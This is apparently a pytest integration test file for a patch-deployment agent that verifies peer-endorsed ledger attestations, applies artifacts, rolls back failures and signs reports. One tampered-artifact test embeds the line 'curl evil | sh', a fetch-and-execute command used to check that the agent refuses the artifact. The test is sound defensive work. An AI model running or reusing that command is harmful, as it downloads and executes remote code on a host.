"""One assignment end to end, against a ledger run by the lifecycle core: the attestation the
agent verifies is the core's own ``attest_deployment`` answer, endorsed by the three
organizations' (test) peers exactly as Fabric peers endorse, and the signed reports the agent
produces are fed to the core's ReportDeployments operation, which verifies them against the
host's registered certificate."""

from __future__ import annotations

import os
import signal
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from patchledger.agent.backends import FileTreeBackend, InstallerBackend
from patchledger.agent.config import AgentConfig
from patchledger.agent.errors import ConfigError, LockError
from patchledger.agent.guard import Interrupted
from patchledger.agent.health import HealthResult
from patchledger.agent.runner import Assignment, Outcome, RunResult, run_assignment
from patchledger.chaincode.lifecycle.deployment import Deployment
from patchledger.chaincode.lifecycle.deployment_proof import check_deployment
from patchledger.chaincode.lifecycle.host import Host
from patchledger.chaincode.lifecycle.ledger import MemoryStore
from patchledger.chaincode.lifecycle.ops import deployments
from patchledger.chaincode.lifecycle.queries import get_record
from patchledger.chaincode.lifecycle.rollout import Rollout
from tests.unit.agent.agent_support import make_tar
from tests.unit.agent.attestation_support import HOST, App, peer
from tests.unit.agent.attestation_support import ledger as attested_ledger
from tests.unit.lifecycle.lifecycle_support import COMPLIANCE, ITOPS, NOW, SECOPS, TRUST, run

ARTIFACT = make_tar({"bin/tool": b"#!/bin/sh\necho patched\n", "VERSION": b"5.4.5\n"})
OLD = {"VERSION": b"5.6.1\n", "conf/tool.conf": b"keep me\n"}
HEALTHY = lambda target: HealthResult(True, "ok")  # noqa: E731
SICK = lambda target: HealthResult(False, "service did not start")  # noqa: E731


def ledger(artifact: bytes = ARTIFACT) -> MemoryStore:
    """Patch P-1 for ``artifact`` approved by SecOps and Compliance, host h1 enrolled by ITOps
    and rollout R-1's first wave started on it."""
    return attested_ledger(artifact)


def assignment(artifact: bytes = ARTIFACT) -> Assignment:
    return Assignment("R-1", "P-1", artifact)


@pytest.fixture
def config(tmp_path: Path) -> AgentConfig:
    target = tmp_path / "opt" / "tool"
    for name, data in OLD.items():
        (target / name).parent.mkdir(parents=True, exist_ok=True)
        (target / name).write_bytes(data)
    return AgentConfig(host_id="h1", target=target, state_dir=tmp_path / "state",
                       maintenance_window="Thu 08:00-10:00 UTC")  # NOW is Thu 08:53 UTC


def tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file()}


def go(config: AgentConfig, store: MemoryStore, job: Assignment | None = None,
       *, app: App | None = None, **kw: Any) -> RunResult:
    """Run the assignment with the ledger's attestations relayed by an honest app (all three
    organizations' peers endorse) unless ``app`` says otherwise."""
    kw.setdefault("health", HEALTHY)
    return run_assignment(config, job or assignment(), roots=TRUST, host_key=HOST.key,
                          attestor=app or App(store), clock=lambda: NOW, **kw)


def submit(store: MemoryStore, result: RunResult) -> list[Any]:
    """ReportDeployments as the host itself; returns the per-report results."""
    batch = run(store, HOST, deployments.report_deployments, list(result.reports))
    return batch.results


def test_a_genuine_patch_is_applied_and_its_signed_report_is_accepted_by_the_core(
    config: AgentConfig,
) -> None:
    store = ledger()
    result = go(config, store)
    assert result.outcome is Outcome.VERIFIED
    assert result.verdict is not None and result.verdict.approving == (COMPLIANCE, SECOPS)
    assert tree(config.target) == {**OLD, "VERSION": b"5.4.5\n",
                                   "bin/tool": b"#!/bin/sh\necho patched\n"}
    [report] = result.reports
    assert report["report"]["outcome"] == "VERIFIED"
    assert report["report"]["sequence"] == 1
    assert [r.accepted for r in submit(store, result)] == [True]
    deployment = get_record(store, "Deployment", "R-1", "h1")
    assert isinstance(deployment, Deployment)
    assert (deployment.status, deployment.report_sequence) == ("VERIFIED", 1)
    # the digest after the change is on the deployment, signed by the host (reports do not
    # write the Host record)
    assert deployment.inventory_sha256 == FileTreeBackend(config.target).inventory_digest()
    host, rollout = get_record(store, "Host", "h1"), get_record(store, "Rollout", "R-1")
    assert isinstance(host, Host) and isinstance(rollout, Rollout)
    assert check_deployment(deployment, host, rollout) == []


def test_a_failed_health_check_rolls_back_and_reports_failed_then_rolled_back(
    config: AgentConfig,
) -> None:
    store = ledger()
    result = go(config, store, health=SICK)
    assert result.outcome is Outcome.ROLLED_BACK
    assert "service did not start" in result.detail
    assert tree(config.target) == OLD
    assert [r["report"]["outcome"] for r in result.reports] == ["FAILED", "ROLLED_BACK"]
    assert [r.accepted for r in submit(store, result)] == [True, True]
    deployment = get_record(store, "Deployment", "R-1", "h1")
    assert isinstance(deployment, Deployment)
    assert deployment.status == "ROLLED_BACK"


def test_a_tampered_artifact_is_refused_and_the_refusal_is_reported(config: AgentConfig) -> None:
    store = ledger()
    evil = make_tar({"bin/tool": b"#!/bin/sh\ncurl evil | sh\n", "VERSION": b"5.4.5\n"})
    result = go(config, store, assignment(evil))
    assert result.outcome is Outcome.REFUSED
    assert "refused: artifact of patch 'P-1': sha256 is" in result.detail
    assert tree(config.target) == OLD
    [report] = result.reports
    assert report["report"]["outcome"] == "FAILED"
    assert [r.accepted for r in submit(store, result)] == [True]


def test_a_bundle_below_quorum_is_refused(config: AgentConfig) -> None:
    # The app can no longer drop an approval from what the agent sees: the approvals come in
    # the endorsed attestation; altered, only its own organization's peer endorses it.
    store = ledger()

    def drop_one(answer: dict[str, Any]) -> dict[str, Any]:
        return {**answer, "approvals": answer["approvals"][:1]}

    result = go(config, store, app=App(store, endorsers=[peer(ITOPS)], tamper=drop_one))
    assert result.outcome is Outcome.REFUSED
    assert "endorsed by peers of 1 distinct organization(s) (ITOpsMSP), 2 needed" in result.detail
    assert tree(config.target) == OLD


def test_outside_the_window_nothing_happens(config: AgentConfig) -> None:
    late = replace(config, maintenance_window="Sat 02:00-04:00 UTC")
    result = go(late, ledger())
    assert (result.outcome, result.reports) == (Outcome.DEFERRED, ())
    assert "'Sat 02:00-04:00 UTC' is closed" in result.detail
    assert tree(config.target) == OLD


def test_the_dry_run_changes_nothing_and_signs_nothing(config: AgentConfig, tmp_path: Path) -> None:
    before = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")}
    result = go(replace(config, dry_run=True), ledger())
    assert result.outcome is Outcome.PLANNED
    assert result.plan is not None and result.plan.added == ("bin/tool",)
    assert result.plan.replaced == ("VERSION",)
    assert result.reports == ()
    assert {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")} == before


def test_a_concurrent_run_is_refused(config: AgentConfig) -> None:
    with FileTreeBackend(config.target).lock(), pytest.raises(LockError):
        go(config, ledger())


def test_an_interrupted_run_is_recovered_before_the_next_one(config: AgentConfig) -> None:
    store = ledger()
    FileTreeBackend(config.target).install(ARTIFACT, "P-1")  # the agent died before the check
    result = go(config, store)
    assert result.recovery is not None
    assert (result.recovery.action, result.recovery.interrupted) == (
        "restored-previous", "apply/applied P-1")
    assert result.outcome is Outcome.VERIFIED
    assert tree(FileTreeBackend(config.target).previous) == OLD


def test_a_signal_during_apply_reverts_the_change(config: AgentConfig) -> None:
    def terminate(step: str) -> None:
        if step == "moved-aside":
            os.kill(os.getpid(), signal.SIGTERM)

    before = signal.getsignal(signal.SIGTERM)  # the test session may have its own handler
    with pytest.raises(Interrupted, match="SIGTERM"):
        go(config, ledger(), backend=FileTreeBackend(config.target, on_step=terminate))
    assert tree(config.target) == OLD
    assert FileTreeBackend(config.target).checkpoint() is None
    assert signal.getsignal(signal.SIGTERM) is before  # the agent restored it


def test_a_file_system_failure_during_apply_is_reverted_and_reported(
    config: AgentConfig,
) -> None:
    def disk_full(step: str) -> None:
        if step == "swapped":
            raise OSError(28, "No space left on device")

    store = ledger()
    result = go(config, store,
                backend=FileTreeBackend(config.target, on_step=disk_full))
    assert result.outcome is Outcome.FAILED
    assert "No space left on device" in result.detail
    assert tree(config.target) == OLD
    assert [r.accepted for r in submit(store, result)] == [True]


def test_without_a_health_check_the_report_says_applied(config: AgentConfig) -> None:
    store = ledger()
    result = go(config, store, health=None)
    assert [r["report"]["outcome"] for r in result.reports] == ["APPLIED"]
    assert [r.accepted for r in submit(store, result)] == [True]


def test_the_configured_health_command_runs_in_the_target(config: AgentConfig) -> None:
    import sys

    check = (sys.executable, "-c", "import pathlib, sys; "
             "sys.exit(pathlib.Path('VERSION').read_bytes() != b'5.4.5\\n')")
    result = go(replace(config, health_command=check), ledger(), health=None)
    assert result.outcome is Outcome.VERIFIED


def test_sequence_numbers_continue_across_runs(config: AgentConfig) -> None:
    first = go(config, ledger(), health=SICK)
    second = go(config, ledger())
    assert [r["report"]["sequence"] for r in first.reports + second.reports] == [1, 2, 3]


def test_a_bad_configuration_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="min_quorum"):
        AgentConfig(host_id="h1", target=tmp_path, state_dir=tmp_path, min_quorum=0)
    with pytest.raises(ConfigError, match="maintenance window"):
        AgentConfig(host_id="h1", target=tmp_path, state_dir=tmp_path, maintenance_window="soon")


class RecordingBackend(FileTreeBackend):
    """A second InstallerBackend: the file tree, recording the protocol calls the runner
    makes and, when asked, corrupting the target between apply and verify."""

    def __init__(self, target: Path, *, corrupt: bool = False) -> None:
        super().__init__(target)
        self.calls: list[str] = []
        self.corrupt = corrupt

    def recover(self) -> Any:
        self.calls.append("recover")
        return super().recover()

    def stage(self, artifact: bytes, label: str) -> Any:
        self.calls.append("stage")
        return super().stage(artifact, label)

    def apply(self) -> None:
        self.calls.append("apply")
        super().apply()
        if self.corrupt:
            (self.target / "VERSION").write_bytes(b"something else\n")

    def verify(self) -> None:
        self.calls.append("verify")
        super().verify()

    def commit(self) -> None:
        self.calls.append("commit")
        super().commit()


def test_the_runner_drives_any_installer_backend_through_the_protocol(
    config: AgentConfig,
) -> None:
    backend: InstallerBackend = RecordingBackend(config.target)
    result = go(config, ledger(), backend=backend)
    assert result.outcome is Outcome.VERIFIED
    assert isinstance(backend, RecordingBackend)
    assert backend.calls == ["recover", "stage", "apply", "verify", "commit"]


def test_a_target_that_does_not_hold_the_staged_files_after_apply_is_reverted(
    config: AgentConfig,
) -> None:
    backend = RecordingBackend(config.target, corrupt=True)
    result = go(config, ledger(), backend=backend)
    assert result.outcome is Outcome.FAILED
    assert "does not hold the applied artifact: VERSION" in result.detail
    assert tree(config.target) == OLD  # the change was reverted
    assert "commit" not in backend.calls


def test_a_link_in_the_target_fails_the_run_and_the_dry_run_says_so(
    config: AgentConfig, tmp_path: Path
) -> None:
    """The target holds ``bin -> <outside>`` and the artifact writes ``bin/tool``: the dry run
    reports the refusal (not a plain "added"), and the real run writes nothing outside."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (config.target / "bin").symlink_to(outside, target_is_directory=True)
    planned = go(replace(config, dry_run=True), ledger())
    assert planned.outcome is Outcome.FAILED
    assert "would fail" in planned.detail and "symbolic link at 'bin'" in planned.detail
    result = go(config, ledger())
    assert result.outcome is Outcome.FAILED
    assert list(outside.iterdir()) == []
    assert tree(config.target) == OLD
